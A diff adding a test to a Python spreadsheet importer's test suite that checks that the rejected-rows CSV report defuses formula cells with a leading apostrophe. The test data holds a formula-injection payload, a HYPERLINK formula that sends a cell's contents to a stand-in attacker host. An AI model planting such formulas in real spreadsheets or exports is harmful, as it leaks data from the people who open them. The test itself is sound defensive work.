@@ -6,6 +6,7 @@ means or is refused with one clear line; nothing is stored mangled."""
 from __future__ import annotations
 
 import codecs
+import csv
 import io
 import sqlite3
 import zipfile
@@ -242,6 +243,29 @@ def test_a_phone_stored_as_a_number_imports_as_its_digits(
     code, _out, err = run(env, workbook(tmp_path / "numbers.xlsx", {"客户": rows}))
     assert code == 0, err
     assert stored(env, "name, phone_last4") == [("乙公司", "9000"), ("甲公司", "8000")]
+
+
+def test_the_rejected_rows_report_holds_no_live_formula(
+    env: dict[str, str], tmp_path: Path
+) -> None:
+    """A text cell `=HYPERLINK(...)` is inert in XLSX; copied as it is into the CSV
+    report, Excel would run it when the operator opens the report to fix the rows. The
+    report re-imports as the file read (the importer takes the apostrophe off again)."""
+    link = '=HYPERLINK("http://evil.example/?q="&A1,"fix me")'
+    rows = [HEADER, [link, "not a phone", "成交"], ["'=1+1", "13800138000x", "成交"]]
+    book = openpyxl.Workbook()
+    for row in rows:
+        book.active.append(row)
+    for cell in ("A2", "A3"):
+        book.active[cell].data_type = "s"  # text, as Excel keeps a cell typed with a '
+    path = tmp_path / "inject.xlsx"
+    book.save(path)
+    report = tmp_path / "report.csv"
+    code, out, err = run(env, path, "--report", str(report))
+    assert code == 0 and "rejected: 2" in out, err
+    with report.open(encoding="utf-8-sig", newline="") as handle:
+        written = list(csv.reader(handle))
+    assert [row[3] for row in written[1:]] == ["'" + link, "'=1+1"]
 
 
 # --- values typed in an input method's full-width mode ------------------------------------------
